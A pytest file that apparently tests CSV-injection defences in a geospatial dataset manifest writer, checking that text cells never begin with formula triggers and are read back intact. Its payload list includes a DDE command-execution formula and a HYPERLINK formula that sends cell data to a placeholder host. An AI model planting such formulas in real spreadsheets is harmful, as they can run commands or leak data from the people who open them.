"""The manifest as a spreadsheet reads it, and as Dalles does."""

import csv
import io
import itertools

import pytest

from dalles.core.dataset.library_manifest import COLUMNS, TEXTS, csv_line, read_manifest
from dalles.core.dataset.library_writer import Entry, LibraryWriter
from dalles.core.grid.tile_grid import Bounds

# owasp.org/www-community/attacks/CSV_Injection: what a cell must not begin with, the full-width forms among them
OWASP = ('=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20')
PAYLOADS = ('=1+1', '=cmd|\' /C calc\'!A0', '+1+1', '-1+1', '-SUM(A1:A9)', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '"=1+1',
            '=HYPERLINK("http://dalles.invalid?"&A1;"x")', '\uff1d1+1', "'=1+1", "''", "'", "'t1", '-500_6204000', '',
            'a,=1+1', 'a;=1+1', 'a"b', 'a\nb', 'Saint-Étienne', '−5', ' =1+1', '0123', '1e5')
NUMBERS = ['-500.5', '-6204000', '0', '1e-05']


def given(text):
    """Values of a line whose texts are all this one, but for the path, which ends as that of an image does."""
    values = dict.fromkeys(TEXTS, text) | {'path': f'{text}/t.jpg', 'built_m2': '-0.000', 'sha256': 'ab' * 32}
    values.update(zip(('xmin', 'ymin', 'xmax', 'ymax'), NUMBERS))
    return [values[column] for column in COLUMNS]


@pytest.fixture
def written(tmp_path):
    """written(text, ...) -> path of a manifest with a line for each."""
    def make(*texts):
        path = tmp_path / 'manifest.csv'
        path.write_bytes(b''.join(csv_line(values) for values in (COLUMNS, *map(given, texts))))
        return path
    return make


def cells(path):
    """The cells that a spreadsheet finds, whatever it takes for the quote: as Python's own reader does."""
    return list(csv.reader(io.StringIO(path.read_text(encoding='utf-8'), newline='')))


def test_no_text_begins_as_a_formula_does_and_numbers_stay_numbers(written):
    header, *rows = cells(written(*PAYLOADS))
    assert tuple(header) == COLUMNS and len(rows) == len(PAYLOADS)
    for row in rows:
        named = dict(zip(COLUMNS, row))
        assert not any(named[column].startswith(OWASP) for column in TEXTS), named
        assert [named[name] for name in ('xmin', 'ymin', 'xmax', 'ymax')] == NUMBERS and named['built_m2'] == '-0.000'
        assert float(named['ymin']) == -6204000


@pytest.mark.parametrize('first', [*OWASP, "'", '"', ',', ';', 'a', ' ', '\\', 'é'])
def test_each_text_is_read_back_as_it_was(written, first):
    """All that begin with one or two of the signs in question, alone and before others."""
    texts = [first + rest for rest in ('', 'x', *map(''.join, itertools.product((*OWASP, "'", '"', ','), ('', '1+1', "'"))))]
    found = list(read_manifest(written(*texts)))
    assert [{column: row[column] for column in TEXTS} for row in found] == [
        {**dict.fromkeys(TEXTS, text), 'path': f'{text}/t.jpg'} for text in texts]


def test_a_plain_manifest_is_what_it_was_before(written):
    """Older ones are read, and those of plain names have not changed by a byte."""
    path = written('t1', 'CRS2154RES50mN6204000E800000')
    plain = io.StringIO()
    csv.writer(plain, lineterminator='\n').writerows([COLUMNS, given('t1'), given('CRS2154RES50mN6204000E800000')])
    assert path.read_text(encoding='utf-8') == plain.getvalue()


@pytest.mark.parametrize('text', ['-500_6204000', '-SUM(A1)', "'t1", '=1+1'])
def test_an_older_manifest_has_no_guards(tmp_path, text):
    """As Dalles wrote them until 0.1.0, or somebody by hand."""
    path = tmp_path / 'manifest.csv'
    with open(path, 'w', newline='', encoding='utf-8') as file:
        csv.writer(file, lineterminator='\n').writerows([COLUMNS, given(text)])
    assert [row['block'] for row in read_manifest(path)] == [text]


def test_a_library_in_the_southern_hemisphere(tmp_path, noise):
    """Names and blocks with a minus are guarded, coordinates are not; a run that was stopped goes on with what it reads."""
    def entry(number):
        return Entry(f'-A{number}', 'bati', 'train', '-500_-6204000', Bounds(-500, -6204000, -450, -6203950), None)
    for last in (2, 3):
        with LibraryWriter(tmp_path / 'lib', 'png', 90, 'EPSG:2154', run='a') as library:
            assert [number for number in range(last) if library.has(entry(number))] == ([0, 1] if last == 3 else [])
            for number in range(last):
                if not library.has(entry(number)):
                    library.write(noise(4, 4, seed=number), entry(number))
    rows = cells(tmp_path / 'lib' / 'manifest.csv')[1:]
    assert [(row[0], row[4], row[5], row[6]) for row in rows] == [
        (f"'-A{number}", "'-500_-6204000", '-500', '-6204000') for number in range(3)]
    assert [(row['tile_id'], row['block']) for row in read_manifest(tmp_path / 'lib' / 'manifest.csv')] == [
        (f'-A{number}', '-500_-6204000') for number in range(3)]
